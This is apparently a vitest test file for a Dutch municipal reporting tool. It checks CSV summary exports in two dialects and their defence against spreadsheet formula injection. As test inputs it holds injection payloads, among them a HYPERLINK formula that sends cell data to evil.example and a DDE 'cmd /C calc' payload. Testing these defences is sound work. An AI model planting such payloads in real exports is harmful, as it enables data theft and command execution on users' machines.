import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { findForm } from '../../forms/catalogue.js';
import { csvColumns, csvGroupColumns, repeatGroups } from '../../forms/definition.js';
import { aggregateRound } from '../../functions/core/aggregation/aggregate-round.js';
import type { AggregationScope, RoundAggregate } from '../../functions/core/aggregation/types.js';
import type { Draft, Registry, Round, SubmissionVersion } from '../../functions/core/model.js';
import { overijssel } from '../../functions/core/registry/overijssel.js';
import {
  attachmentsSize,
  type CsvDialect,
  groupCsvColumns,
  maxAttachmentBytes,
  type SummaryAttachment,
  summaryAttachments,
  summaryCsvColumns,
} from '../../functions/core/summary-csv.js';
import { roundFor, submittedVersion as version } from '../support/aggregation-fixtures.js';
import { validEigenBijdrage, validSociaalDomein, validVoortgangOpgaven } from '../support/pipeline.js';

/**
 * The CSV attachments of a summary, read back with a CSV parser in both dialects and compared with the
 * stored answers.
 */

const now = new Date('2026-11-27T09:00:00.000Z');
const region: AggregationScope = { type: 'region', id: 'ijsselland' };
const dialects: CsvDialect[] = ['excel-nl', 'rfc4180'];

function aggregateOf(
  round: Round,
  current: SubmissionVersion[],
  extra: { scope?: AggregationScope; drafts?: Draft[]; registry?: Registry } = {},
): RoundAggregate {
  return aggregateRound({
    round,
    registry: extra.registry ?? overijssel,
    scope: extra.scope ?? region,
    current,
    drafts: extra.drafts,
    now,
  });
}

/** Parses an attachment the way a spreadsheet or a script would, in its dialect. */
function read(attachment: SummaryAttachment, dialect: CsvDialect): string[][] {
  return parse(attachment.content, {
    delimiter: dialect === 'excel-nl' ? ';' : ',',
    bom: true,
    relax_column_count: false,
  });
}

/**
 * A cell read back as the value the answers hold: numbers with the dialect's decimal mark, text without
 * the quote that neutralises a formula.
 */
function answerIn(cell: string, expected: unknown, dialect: CsvDialect): unknown {
  if (typeof expected === 'number') return Number(dialect === 'excel-nl' ? cell.replace(',', '.') : cell);
  return /^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell;
}

const byName = (attachments: SummaryAttachment[], part: string) => {
  const found = attachments.find((attachment) => attachment.filename.includes(part));
  if (!found) throw new Error(`no attachment ${part} in ${attachments.map((a) => a.filename).join(', ')}`);
  return found;
};

// Voortgang opgaven ------------------------------------------------------------------------------------

const voortgang = roundFor('voortgang-opgaven');
const voortgangDefinition = findForm('voortgang-opgaven')!;
/** Kampen is ahead: a lead of 4 (backlog -4), task 30, housed 30 → balance -4. */
const kampen = validVoortgangOpgaven({
  asylumLocations: [],
  housing: [
    { period: '2026-H1', task: 28, backlog: 0, housed: 32 },
    { period: '2026-H2', task: 30, backlog: -4, housed: 30, ibtColour: 'groen' },
  ],
  contactName: '-2+3 Jansen',
});
const deventer = validVoortgangOpgaven({
  asylumLocations: [
    {
      name: '=HYPERLINK("http://evil.example","klik")',
      type: 'noodopvang',
      capacity: 150,
      availableFrom: '2026-01-15',
      phase: 'voornemen',
    },
  ],
});
const voortgangVersions = [
  // Zwolle's version was stored under revision 1 of the form, when municipalities typed their share.
  version(voortgang, 'GM0193', validVoortgangOpgaven({ regularShare: 717 }), {
    warnings: [{ path: 'ukraineOccupied', message: 'Klopt dat?' }],
    definitionRevision: 1,
  }),
  version(voortgang, 'GM0166', kampen, {
    submittedAt: '2026-12-01T07:30:00.000Z',
    late: true,
    definitionRevision: 2,
  }),
  version(voortgang, 'GM0150', deventer, { version: 2, definitionRevision: 2 }),
];
const voortgangAggregate = aggregateOf(voortgang, voortgangVersions, {
  drafts: [
    {
      roundId: voortgang.id,
      formId: voortgang.formId,
      municipality: 'GM0177',
      raw: {},
      baseVersion: 0,
      revision: 1,
      savedAt: '2026-11-20T10:00:00.000Z',
      expiresAt: Date.parse('2026-12-30T00:00:00.000Z') / 1000,
    },
  ],
});

describe('the CSV attachments of voortgang opgaven', () => {
  const attachments = summaryAttachments(voortgangAggregate, voortgangVersions);

  it('are one file per form and one per repeated group, named by form, group, region and date', () => {
    expect(attachments.map((attachment) => attachment.filename)).toEqual([
      'voortgang-opgaven_ijsselland_2026-11-27.csv',
      'voortgang-opgaven_asiellocaties_ijsselland_2026-11-27.csv',
      'voortgang-opgaven_taakstelling-per-halfjaar_ijsselland_2026-11-27.csv',
    ]);
    expect(attachments.every((attachment) => attachment.contentType === 'text/csv; charset=utf-8')).toBe(
      true,
    );
  });

  it('default to Excel in Dutch: BOM, semicolons, CRLF', () => {
    const main = attachments[0]!.content;
    expect(main.charCodeAt(0)).toBe(0xfeff);
    expect(
      main.startsWith(
        '\ufeffGemeentecode;Gemeente;Regio;Status;Versie;Ingezonden op;Te laat;Waarschuwingen;',
      ),
    ).toBe(true);
    expect(main.endsWith('\r\n')).toBe(true);
    expect(main).not.toMatch(/(?<!\r)\n/);
  });

  for (const dialect of dialects) {
    describe(`read back (${dialect})`, () => {
      const files = summaryAttachments(voortgangAggregate, voortgangVersions, { dialect });
      const [header, ...rows] = read(files[0]!, dialect);

      it('has Dutch headers: the leading columns, then the form’s own', () => {
        expect(header).toEqual(summaryCsvColumns(voortgangDefinition).map((column) => column.header));
        expect(header!.slice(0, 8)).toEqual([
          'Gemeentecode',
          'Gemeente',
          'Regio',
          'Status',
          'Versie',
          'Ingezonden op',
          'Te laat',
          'Waarschuwingen',
        ]);
        expect(header).toContain('Toegezegd regulier');
        expect(header).toContain('Indicatief aandeel regulier (vervallen)');
        expect(header).toContain('Capaciteit opvang Oekraïne');
      });

      it('has one row per municipality in scope, also those without a submission', () => {
        expect(rows.map((row) => row[0])).toEqual(
          voortgangAggregate.response.municipalities.map((m) => m.code),
        );
        expect(rows).toHaveLength(11);
        const raalte = rows.find((row) => row[0] === 'GM0177')!;
        expect(raalte.slice(0, 4)).toEqual(['GM0177', 'Raalte', 'IJsselland', 'concept']);
        expect(raalte.slice(4).every((cell) => cell === '')).toBe(true);
        const ommen = rows.find((row) => row[0] === 'GM0175')!;
        expect(ommen[3]).toBe('niets');
        expect(ommen.slice(4).every((cell) => cell === '')).toBe(true);
      });

      it('has the status columns of the submitted ones', () => {
        const zwolle = rows.find((row) => row[0] === 'GM0193')!;
        const kampenRow = rows.find((row) => row[0] === 'GM0166')!;
        const deventerRow = rows.find((row) => row[0] === 'GM0150')!;
        // 09:00 UTC is 10:00 in Amsterdam; 07:30 UTC on 1 December is 08:30.
        expect(zwolle.slice(0, 8)).toEqual([
          'GM0193',
          'Zwolle',
          'IJsselland',
          'ingezonden',
          '1',
          dialect === 'excel-nl' ? '2026-11-10 10:00' : '2026-11-10T09:00:00.000Z',
          'nee',
          '1',
        ]);
        expect(kampenRow.slice(4, 8)).toEqual([
          '1',
          dialect === 'excel-nl' ? '2026-12-01 08:30' : '2026-12-01T07:30:00.000Z',
          'ja',
          '0',
        ]);
        expect(deventerRow[4]).toBe('2');
      });

      it('holds the stored answers, numbers as numbers', () => {
        const columns = csvColumns(voortgangDefinition);
        for (const stored of voortgangVersions) {
          const row = rows.find((candidate) => candidate[0] === stored.municipality)!;
          columns.forEach((column, index) => {
            const expected = column.value(stored.answers);
            expect(answerIn(row[8 + index]!, expected, dialect), `${stored.municipality} ${column.key}`).toBe(
              expected,
            );
          });
        }
        // The share Zwolle typed under revision 1 is still there, in a column marked vervallen.
        const all = summaryCsvColumns(voortgangDefinition);
        const share = all.findIndex((column) => column.key === 'regularShare');
        expect(all[share]!.header).toBe('Indicatief aandeel regulier (vervallen)');
        const zwolle = rows.find((row) => row[0] === 'GM0193')!;
        expect(zwolle[share]).toBe('717');
        expect(rows.find((row) => row[0] === 'GM0166')![share]).toBe('');
        // The contact person's text starting with `-` is text, so it gets the quote.
        const kampenRow = rows.find((row) => row[0] === 'GM0166')!;
        expect(kampenRow[8 + columns.findIndex((column) => column.key === 'contactName')]).toBe(
          "'-2+3 Jansen",
        );
      });

      it('lists the asylum locations in long format, one row per location, keyed by municipality', () => {
        const [groupHeader, ...locations] = read(byName(files, 'asiellocaties'), dialect);
        const group = repeatGroups(voortgangDefinition).find(
          (candidate) => candidate.key === 'asylumLocations',
        )!;
        expect(groupHeader).toEqual(
          groupCsvColumns(voortgangDefinition, group).map((column) => column.header),
        );
        expect(groupHeader!.slice(0, 5)).toEqual(['Gemeentecode', 'Gemeente', 'Regio', 'Versie', 'Nr.']);
        // Deventer 1 location, Kampen none, Zwolle 2 (in the order of the summary: by name).
        expect(locations.map((row) => row.slice(0, 5))).toEqual([
          ['GM0150', 'Deventer', 'IJsselland', '2', '1'],
          ['GM0193', 'Zwolle', 'IJsselland', '1', '1'],
          ['GM0193', 'Zwolle', 'IJsselland', '1', '2'],
        ]);
        expect(locations[1]!.slice(5)).toEqual([
          'Voormalig kantoor Hanzelaan',
          'azc',
          '350',
          '2025-07-01',
          '2035-07-01',
          'operationeel',
          '', // Overige gegevens: nothing stored outside the form
        ]);
        expect(locations[2]![9]).toBe(''); // no end date
        expect(locations[0]![5]).toBe('\'=HYPERLINK("http://evil.example","klik")');
      });

      it('keeps a negative number a number: a lead of 4 is -4, never prefixed', () => {
        const [, ...housing] = read(byName(files, 'taakstelling'), dialect);
        const group = repeatGroups(voortgangDefinition).find((candidate) => candidate.key === 'housing')!;
        const keys = csvGroupColumns(group).map((column) => column.key);
        const kampenRows = housing.filter((row) => row[0] === 'GM0166');
        expect(kampenRows).toHaveLength(2);
        const h2 = kampenRows[1]!;
        expect(h2[5 + keys.indexOf('housing.period')]).toBe('2026-H2');
        expect(h2[5 + keys.indexOf('housing.backlog')]).toBe('-4');
        // Derived by the form: -4 + 30 − 30 = -4.
        expect(h2[5 + keys.indexOf('housing.balance')]).toBe('-4');
        expect(h2[5 + keys.indexOf('housing.ibtColour')]).toBe('groen');
        // H1: 0 + 28 − 32 = -4 as well, without a colour.
        expect(kampenRows[0]![5 + keys.indexOf('housing.balance')]).toBe('-4');
        expect(kampenRows[0]![5 + keys.indexOf('housing.ibtColour')]).toBe('');
        expect(files[2]!.content).not.toContain("'-4");
      });
    });
  }

  it('writes plain RFC 4180 on request: commas, no BOM, CRLF', () => {
    const [main] = summaryAttachments(voortgangAggregate, voortgangVersions, { dialect: 'rfc4180' });
    expect(main!.content.startsWith('Gemeentecode,Gemeente,Regio,Status,')).toBe(true);
    expect(main!.content.charCodeAt(0)).not.toBe(0xfeff);
    expect(main!.content).not.toMatch(/(?<!\r)\n/);
  });

  it('uses the very version the summary counted, not an older one passed along', () => {
    const amended = validVoortgangOpgaven({ regularCommitted: 650 });
    const versions = [
      ...voortgangVersions,
      version(voortgang, 'GM0193', amended, { version: 2, submittedAt: '2026-11-25T09:00:00.000Z' }),
    ];
    const [main] = summaryAttachments(aggregateOf(voortgang, versions), versions, { dialect: 'rfc4180' });
    const [header, ...rows] = read(main!, 'rfc4180');
    const zwolle = rows.find((row) => row[0] === 'GM0193')!;
    expect(zwolle[4]).toBe('2');
    expect(zwolle[header!.indexOf('Toegezegd regulier')]).toBe('650');
  });

  it('refuses versions that do not match the summary, rather than export other figures than it shows', () => {
    expect(() => summaryAttachments(voortgangAggregate, voortgangVersions.slice(1))).toThrow(/GM0193/);
  });
});

// Eigen bijdrage -----------------------------------------------------------------------------------------

describe('the CSV attachments of eigen bijdrage', () => {
  const round = roundFor('eigen-bijdrage');
  const versions = [
    version(round, 'GM0193', validEigenBijdrage()),
    version(
      round,
      'GM0148',
      validEigenBijdrage({
        amountOperatingCosts: 105,
        monthlyRevenue: 1200,
        remarks: '@SUM(1+1)*cmd|" /C calc"!A0',
      }),
    ),
  ];
  const aggregate = aggregateOf(round, versions);

  it('writes amounts with two decimals: a decimal comma for Excel, a point for RFC 4180', () => {
    const definition = findForm('eigen-bijdrage')!;
    const keys = summaryCsvColumns(definition).map((column) => column.key);
    const excel = read(summaryAttachments(aggregate, versions)[0]!, 'excel-nl');
    const plain = read(summaryAttachments(aggregate, versions, { dialect: 'rfc4180' })[0]!, 'rfc4180');
    const zwolleExcel = excel.find((row) => row[0] === 'GM0193')!;
    const zwollePlain = plain.find((row) => row[0] === 'GM0193')!;
    const cell = (row: string[], key: string) => row[keys.indexOf(key)];
    expect(cell(zwolleExcel, 'amountOperatingCosts')).toBe('244,22');
    expect(cell(zwolleExcel, 'amountCatering')).toBe('252,18');
    expect(cell(zwolleExcel, 'monthlyRevenue')).toBe('18450,50');
    expect(cell(zwolleExcel, 'adultsFull')).toBe('41');
    expect(cell(zwolleExcel, 'collects')).toBe('ja');
    expect(cell(zwolleExcel, 'scheduleApplied')).toBe('2025-10-01');
    expect(cell(zwollePlain, 'amountOperatingCosts')).toBe('244.22');
    expect(cell(zwollePlain, 'monthlyRevenue')).toBe('18450.50');
    const dalfsen = excel.find((row) => row[0] === 'GM0148')!;
    expect(cell(dalfsen, 'amountOperatingCosts')).toBe('105,00');
    expect(cell(dalfsen, 'remarks')).toBe('\'@SUM(1+1)*cmd|" /C calc"!A0');
  });

  it('lists the reception locations in long format', () => {
    const attachments = summaryAttachments(aggregate, versions);
    expect(attachments.map((attachment) => attachment.filename)).toEqual([
      'eigen-bijdrage_ijsselland_2026-11-27.csv',
      'eigen-bijdrage_opvanglocaties_ijsselland_2026-11-27.csv',
    ]);
    const [, ...rows] = read(attachments[1]!, 'excel-nl');
    // Dalfsen 2, Zwolle 2.
    expect(rows.map((row) => [row[0], row[4], row[5], row[7]])).toEqual([
      ['GM0148', '1', 'De Vechtstede', 'ja'],
      ['GM0148', '2', 'Hotel Wijthmen', 'nee'],
      ['GM0193', '1', 'De Vechtstede', 'ja'],
      ['GM0193', '2', 'Hotel Wijthmen', 'nee'],
    ]);
  });
});

// Sociaal domein: formula injection ---------------------------------------------------------------------

/** What OWASP lists as the start of a formula: `=`, `+`, `-`, `@`, TAB and CR. */
const vectors = ['=SUM(A1)', '+1', '-2+3', '@cmd', '\t=1', '\r=1', '=1+1;=2', '＝1'];

describe('formula injection', () => {
  const round = roundFor('sociaal-domein');
  const versions = [
    version(
      round,
      'GM0193',
      validSociaalDomein({
        careSituation: '=HYPERLINK("http://evil.example?x="&A1,"Klik")',
        workSituation: '-',
        bottlenecks: vectors.map((description) => ({ domain: 'zorg', description, severity: 'beperkt' })),
        supportRequests: [{ domain: 'werk', addressee: 'rijk', request: '+31 6 12345678 bellen' }],
      }),
    ),
    version(round, 'GM0177', validSociaalDomein()),
  ];
  const aggregate = aggregateOf(round, versions);

  for (const dialect of dialects) {
    it(`neutralises every vector with a leading quote (${dialect})`, () => {
      const attachments = summaryAttachments(aggregate, versions, { dialect });
      const [, ...bottlenecks] = read(byName(attachments, 'knelpunten'), dialect);
      const zwolle = bottlenecks.filter((row) => row[0] === 'GM0193');
      expect(zwolle.map((row) => row[6])).toEqual(vectors.map((vector) => `'${vector}`));
      const [header, ...rows] = read(attachments[0]!, dialect);
      const row = rows.find((candidate) => candidate[0] === 'GM0193')!;
      expect(row[header!.indexOf('Situatie zorg')]).toBe('\'=HYPERLINK("http://evil.example?x="&A1,"Klik")');
      expect(row[header!.indexOf('Situatie werk')]).toBe("'-");
      const [, ...requests] = read(byName(attachments, 'ondersteuningsvragen'), dialect);
      expect(requests[1]![7]).toBe("'+31 6 12345678 bellen");
    });

    it(`leaves no cell of any form that a spreadsheet would run (${dialect})`, () => {
      const all = [
        ...summaryAttachments(aggregate, versions, { dialect }),
        ...summaryAttachments(voortgangAggregate, voortgangVersions, { dialect }),
      ];
      for (const attachment of all) {
        for (const row of read(attachment, dialect)) {
          for (const cell of row) {
            if (/^-?\d+([.,]\d+)?$/.test(cell)) continue; // a number, negative ones included
            expect(cell, `${attachment.filename}: ${JSON.stringify(cell)}`).not.toMatch(
              /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/,
            );
          }
        }
      }
    });
  }

  it('keeps every group file in the definition’s columns', () => {
    const definition = findForm('sociaal-domein')!;
    const attachments = summaryAttachments(aggregate, versions);
    for (const group of repeatGroups(definition)) {
      const [header] = read(byName(attachments, group.label.toLowerCase()), 'excel-nl');
      expect(header!.slice(5)).toEqual(
        groupCsvColumns(definition, group)
          .map((column) => column.header)
          .slice(5),
      );
    }
  });
});

// Scope and size -----------------------------------------------------------------------------------------

describe('scope and size', () => {
  it('a province file has a row for every municipality of both regions', () => {
    const aggregate = aggregateOf(voortgang, voortgangVersions, {
      scope: { type: 'province', id: 'overijssel' },
    });
    const [main] = summaryAttachments(aggregate, voortgangVersions);
    expect(main!.filename).toBe('voortgang-opgaven_overijssel_2026-11-27.csv');
    const [, ...rows] = read(main!, 'excel-nl');
    expect(rows).toHaveLength(25);
    expect(rows.filter((row) => row[2] === 'IJsselland')).toHaveLength(11);
    expect(rows.filter((row) => row[2] === 'Twente')).toHaveLength(14);
  });

  it('an empty round still has every municipality, and group files with only a header', () => {
    const attachments = summaryAttachments(aggregateOf(voortgang, []), []);
    expect(read(attachments[0]!, 'excel-nl')).toHaveLength(12);
    expect(read(attachments[1]!, 'excel-nl')).toHaveLength(1);
  });

  it('measures attachments in UTF-8 bytes, the BOM included', () => {
    expect(attachmentsSize([{ content: '\ufeffé' }, { content: 'a;b\r\n' }])).toBe(3 + 2 + 5);
    expect(maxAttachmentBytes).toBe(7 * 1024 * 1024);
    // base64 (4/3) of the limit stays under the 10 MB SES message limit.
    expect((maxAttachmentBytes * 4) / 3).toBeLessThan(10 * 1024 * 1024);
  });

  it('keeps a realistic summary of all 342 municipalities well within the limit', () => {
    const codes = Array.from({ length: 342 }, (_, index) => `GM${String(index + 1).padStart(4, '0')}`);
    const registry: Registry = {
      provinces: [{ id: 'nederland', name: 'Nederland', addresses: [] }],
      regions: [
        { id: 'nl', name: 'Nederland', province: 'nederland', boardName: 'Landelijk', addresses: [] },
      ],
      municipalities: codes.map((code) => ({ code, name: `Gemeente ${code}`, region: 'nl', contacts: [] })),
    };
    const round = roundFor('sociaal-domein', { regions: ['nl'] });
    const versions = codes.map((code) => version(round, code, validSociaalDomein()));
    const aggregate = aggregateOf(round, versions, { registry, scope: { type: 'region', id: 'nl' } });
    const attachments = summaryAttachments(aggregate, versions);
    const [, ...rows] = read(attachments[0]!, 'excel-nl');
    expect(rows).toHaveLength(342);
    expect(attachmentsSize(attachments)).toBeLessThan(maxAttachmentBytes / 10);
  });
});
